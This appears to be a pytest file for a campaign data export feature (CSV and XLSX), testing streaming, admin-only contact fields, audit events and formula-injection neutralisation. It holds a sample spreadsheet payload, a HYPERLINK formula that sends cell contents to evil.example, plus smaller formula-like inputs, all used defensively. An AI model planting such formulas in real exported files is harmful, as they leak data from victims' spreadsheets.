"""Exports of a campaign's raw data: CSV with BOM and XLSX that open and round-trip, neutralised, streamed."""
from __future__ import annotations

import csv
import io
import uuid

import openpyxl
import pytest
from sqlalchemy import select

from tests.factories import make_campaign, make_priority_response, make_user
from webapp.extensions import db
from webapp.models import AuditEvent, MemberAssessment, Response
from webapp.services.analysis_runs import run_now

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def campaign(app):
    campaign = make_campaign(slug="north", needs=("housing", "food"))
    for i in range(12):
        make_priority_response(
            campaign, {"housing": 5 if i % 2 else 3, "food": 4}, top_three=("housing",),
            profile={"place": "+1 Main St" if i == 0 else "98118", "income_band": "under_25k", "uninsured": i < 4,
                     "race_ethnicity": ["black", "latino"]},
            answers={"barrier": (HOSTILE if i == 0 else f"Rent is too high ({i})", "en"),
                     "change": ("@SUM(1+1)" if i == 1 else "Más autobuses", "es")},
            commit=False)
    member = Response(client_uuid=uuid.uuid4(), content_hash="0" * 64, campaign_id=campaign.id, instrument="member",
                      language="en", channel="web")
    db.session.add(member)
    db.session.flush()
    db.session.add(MemberAssessment(response_id=member.id, directory_consent=True, name="Ana Member",
                                    email="ana@example.org", phone="-555 0100", organisation="Clinic",
                                    sector="health_care", involvement="active"))
    db.session.commit()
    run_now(campaign, n_bootstrap=0)
    return campaign


@pytest.fixture
def admin(campaign, auth):
    user = make_user("admin@example.org", "admin")
    auth.login_as(user)
    return user


def read_csv(response) -> list[list[str]]:
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_csv_tables_have_a_bom_and_one_row_per_response_rating_and_answer(client, lead):
    responses = read_csv(client.get("/coalition/north/export.csv?table=responses"))
    ratings = read_csv(client.get("/coalition/north/export.csv?table=ratings"))
    answers = read_csv(client.get("/coalition/north/export.csv?table=answers"))
    assert len(responses) == 1 + 12 and len(ratings) == 1 + 24 and len(answers) == 1 + 24
    header = responses[0]
    assert {"representative_weight", "affectedness", "equity_weight", "channel", "event"} <= set(header)
    row = dict(zip(header, responses[1]))
    assert float(row["representative_weight"]) > 0 and row["race_ethnicity"] == "black;latino"
    assert ratings[0] == ["response_id", "need", "importance", "top_three"]
    assert answers[0][-2:] == ["theme_id", "theme"]


def test_formula_like_text_is_neutralised_in_csv(client, lead):
    answers = read_csv(client.get("/coalition/north/export.csv?table=answers"))
    texts = [row[4] for row in answers[1:]]
    assert "'" + HOSTILE in texts and "'@SUM(1+1)" in texts
    assert not any(text.startswith(("=", "@", "+", "-")) for text in texts)
    responses = read_csv(client.get("/coalition/north/export.csv?table=responses"))
    places = [row[responses[0].index("place")] for row in responses[1:]]
    assert "'+1 Main St" in places


def test_the_xlsx_opens_with_openpyxl_and_round_trips(client, lead):
    response = client.get("/coalition/north/export.xlsx")
    assert response.status_code == 200 and response.is_streamed
    assert response.mimetype.endswith("spreadsheetml.sheet")
    assert response.headers["Content-Disposition"] == 'attachment; filename="north-all.xlsx"'  # all five tables
    book = openpyxl.load_workbook(io.BytesIO(response.get_data()), read_only=True)
    assert book.sheetnames == ["responses", "ratings", "answers", "members", "codebook"]
    answers = list(book["answers"].iter_rows(values_only=True))
    csv_answers = read_csv(client.get("/coalition/north/export.csv?table=answers"))
    assert [str(v) for v in answers[0]] == csv_answers[0]
    assert len(answers) == len(csv_answers)
    ratings = list(book["ratings"].iter_rows(values_only=True))
    assert {row[2] for row in ratings[1:]} == {3, 4, 5}  # numbers stay numbers
    book.close()


def test_formula_like_text_is_written_to_xlsx_as_it_was_typed_and_marked_as_text(client, lead, admin):
    book = openpyxl.load_workbook(io.BytesIO(client.get("/coalition/north/export.xlsx?include_contact=1").get_data()))
    cells = {cell.value: cell for sheet in ("answers", "responses", "members") for row in book[sheet].iter_rows()
             for cell in row}
    for typed in (HOSTILE, "@SUM(1+1)", "+1 Main St", "-555 0100"):  # an answer, a place, a phone number
        cell = cells[typed]  # no apostrophe in the words
        assert cell.data_type == "s" and cell.quotePrefix  # text, and stays text when edited: never run
    assert not cells["Rent is too high (2)"].quotePrefix and not cells["98118"].quotePrefix
    assert not any(cell.data_type == "f" for cell in cells.values())


def test_the_codebook_names_every_column_with_its_question_in_each_language(client, lead):
    rows = read_csv(client.get("/coalition/north/export.csv?table=codebook"))
    header = rows[0]
    assert header[:2] == ["table", "column"] and "question_en" in header and "question_es" in header
    by_column = {(r[0], r[1]): dict(zip(header, r)) for r in rows[1:]}
    assert by_column[("responses", "age_band")]["question_es"] == "Su edad"
    assert by_column[("ratings", "need=housing")]["question_es"] == "housing [es]"
    assert ("answers", "question=barrier") in by_column
    assert ("members", "email") not in by_column


def test_contact_fields_are_left_out_for_leads(client, lead):
    members = read_csv(client.get("/coalition/north/export.csv?table=members"))
    assert "email" not in members[0] and "ana@example.org" not in str(members)
    assert client.get("/coalition/north/export.csv?table=members&include_contact=1").status_code == 403
    assert client.get("/coalition/north/export.xlsx?include_contact=1").status_code == 403
    assert "Download everything with contact details" not in client.get("/coalition/north/exports").get_data(as_text=True)


def test_an_admin_may_include_contact_fields_and_that_is_audited(client, admin):
    assert "Download everything with contact details" in client.get("/coalition/north/exports").get_data(as_text=True)
    response = client.get("/coalition/north/export.csv?table=members&include_contact=1")
    assert response.headers["Content-Disposition"].endswith('filename="north-members-with-contacts.csv"')
    members = read_csv(response)
    others = client.get("/coalition/north/export.csv?table=responses&include_contact=1")  # no contact columns
    assert others.headers["Content-Disposition"].endswith('filename="north-responses.csv"')
    read_csv(others)
    row = dict(zip(members[0], members[1]))
    assert row["email"] == "ana@example.org" and row["phone"] == "'-555 0100"
    response = client.get("/coalition/north/export.xlsx?include_contact=1")
    assert response.headers["Content-Disposition"] == 'attachment; filename="north-all-with-contacts.xlsx"'
    book = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    assert "email" in [c.value for c in book["members"][1]]
    events = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export.downloaded")
                                .order_by(AuditEvent.id)).all()
    assert [e.detail["include_contact"] for e in events] == [True, True, True]
    assert all(e.actor_id == admin.id for e in events)


def test_every_download_is_audited(client, lead):
    client.get("/coalition/north/export.csv?table=ratings")
    event = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "export.downloaded"))
    assert event.detail["export"] == "responses-ratings" and event.detail["include_contact"] is False


def test_large_exports_stream(client, lead, monkeypatch):
    from webapp.services import response_exports

    monkeypatch.setattr(response_exports, "BATCH", 5)
    response = client.get("/coalition/north/export.csv?table=ratings")
    assert response.is_streamed
    chunks = list(response.response)
    assert len(chunks) == 1 + 24  # a line at a time, never the whole file at once
    response.close()


def test_an_unknown_table_is_not_found(client, lead):
    assert client.get("/coalition/north/export.csv?table=passwords").status_code == 404


def test_a_table_longer_than_a_sheet_goes_on_over_numbered_sheets_and_loses_no_row(client, lead, monkeypatch):
    from xlsxwriter.worksheet import Worksheet

    from webapp.services import response_exports

    # a sheet of 10 rows stands for Excel's 1,048,576 (xlsxwriter silently drops rows past its limit)
    monkeypatch.setattr(response_exports, "SHEET_ROWS", 10, raising=False)
    made = Worksheet.__init__
    monkeypatch.setattr(Worksheet, "__init__", lambda self: (made(self), setattr(self, "xls_rowmax", 10))[0])
    book = openpyxl.load_workbook(io.BytesIO(client.get("/coalition/north/export.xlsx").get_data()), read_only=True)
    assert book.sheetnames[:10] == ["responses", "responses 2", "ratings", "ratings 2", "ratings 3", "answers",
                                    "answers 2", "answers 3", "members", "codebook"]
    assert all(name.startswith("codebook ") for name in book.sheetnames[10:])
    ratings = [list(book[name].iter_rows(values_only=True)) for name in ("ratings", "ratings 2", "ratings 3")]
    assert all(sheet[0] == ("response_id", "need", "importance", "top_three") for sheet in ratings)
    exported = [row for sheet in ratings for row in sheet[1:]]
    csv_ratings = read_csv(client.get("/coalition/north/export.csv?table=ratings"))[1:]
    assert len(exported) == len(csv_ratings) == 24
    assert [[str(v) for v in row] for row in exported] == csv_ratings
    book.close()


def test_the_members_table_holds_every_answer_of_the_assessment_but_contacts(client, lead, campaign):
    from webapp.services.members import MemberSubmission, store_member_assessment

    store_member_assessment(campaign, MemberSubmission(
        uuid.uuid4(), "es", sector="other", involvement="occasional", sector_other="Iglesia", lived_experience=True,
        other_languages="Mixteco", choices={"skill": ["translation", "facilitation"], "asset": ["meeting_space"],
                                            "language": ["es"], "day": ["sat"], "mode": ["in_person"]},
        competencies={"facilitation": 2, "leadership": 4},
        answers={"help_involved": ("Reuniones los sábados", "es")}))
    members = read_csv(client.get("/coalition/north/export.csv?table=members"))
    row = dict(zip(members[0], members[-1]))
    assert (row["sector"], row["sector_other"], row["lived_experience"], row["other_languages"]) == (
        "other", "Iglesia", "1", "Mixteco")
    assert row["skill"] == "facilitation;translation" and row["asset"] == "meeting_space" and row["day"] == "sat"
    assert row["competency_facilitation"] == "2" and row["competency_leadership"] == "4"
    assert row["competency_data_use"] == "" and row["help_involved"] == "Reuniones los sábados"
    assert not {"name", "email", "phone"} & set(members[0])
    codebook = {(r[0], r[1]): r[-1] for r in read_csv(client.get("/coalition/north/export.csv?table=codebook"))}
    assert "translation" in codebook[("members", "skill")] and ("members", "help_involved") in codebook


@pytest.fixture
def entered_at_events(campaign):
    """Three responses entered at two events of the same name, one of them by an account whose email
    a spreadsheet would take for a formula, one from a paper form numbered like one."""
    import datetime as dt

    from webapp.services.field import create_event

    first = create_event(campaign, name="Health fair", date=dt.date(2026, 5, 2))
    second = create_event(campaign, name="Health fair", date=dt.date(2026, 6, 6))
    worker = make_user("+worker@example.org", "outreach", campaigns=[campaign])
    entered = []
    for event, paper_number in ((first, "007"), (second, "007"), (second, "=1+2")):
        response = make_priority_response(campaign, {"housing": 4, "food": 3}, channel="paper", event_id=event.id,
                                          commit=False)
        response.paper_number, response.entered_by_id = paper_number, worker.id
        entered.append(response)
    db.session.commit()
    return first, second, [response.id for response in entered]


def test_responses_carry_the_event_number_the_paper_form_number_and_who_entered_them(client, lead, entered_at_events):
    first, second, ids = entered_at_events
    rows = read_csv(client.get("/coalition/north/export.csv?table=responses"))
    header = rows[0]
    assert header[:12] == ["response_id", "received_at", "answered_at", "form_language", "channel", "event_id",
                           "event", "paper_number", "entered_by", "place", "age_band", "race_ethnicity"]
    assert header[-3:] == ["representative_weight", "affectedness", "equity_weight"]  # the rest keeps its order
    by_id = {row[0]: dict(zip(header, row)) for row in rows[1:]}
    entered = [(by_id[str(i)]["event_id"], by_id[str(i)]["event"], by_id[str(i)]["paper_number"],
                by_id[str(i)]["entered_by"]) for i in ids]
    assert entered == [(str(first.id), "Health fair", "007", "'+worker@example.org"),
                       (str(second.id), "Health fair", "007", "'+worker@example.org"),
                       (str(second.id), "Health fair", "'=1+2", "'+worker@example.org")]
    residents = [row for key, row in by_id.items() if int(key) not in ids]
    assert len(residents) == 12 and all(row["event_id"] == row["paper_number"] == row["entered_by"] == ""
                                        for row in residents)  # residents' own web answers


def test_the_xlsx_responses_sheet_has_the_same_new_columns_as_the_csv(client, lead, entered_at_events):
    first, _second, ids = entered_at_events
    book = openpyxl.load_workbook(io.BytesIO(client.get("/coalition/north/export.xlsx").get_data()), read_only=True)
    sheet = list(book["responses"].iter_rows(values_only=True))
    book.close()
    header = [str(v) for v in sheet[0]]
    assert header == read_csv(client.get("/coalition/north/export.csv?table=responses"))[0]
    row = dict(zip(header, next(r for r in sheet[1:] if r[0] == ids[0])))
    assert (row["event_id"], row["paper_number"], row["entered_by"]) == (first.id, "007", "+worker@example.org")
    assert dict(zip(header, next(r for r in sheet[1:] if r[0] == ids[2])))["paper_number"] == "=1+2"  # marked as text


def test_the_codebook_describes_the_new_response_columns(client, lead):
    codebook = {(r[0], r[1]): r[-1] for r in read_csv(client.get("/coalition/north/export.csv?table=codebook"))}
    assert {"event_id", "paper_number", "entered_by"} <= {column for table, column in codebook if table == "responses"}
    assert "blank: the resident's own web answer" in codebook[("responses", "entered_by")]
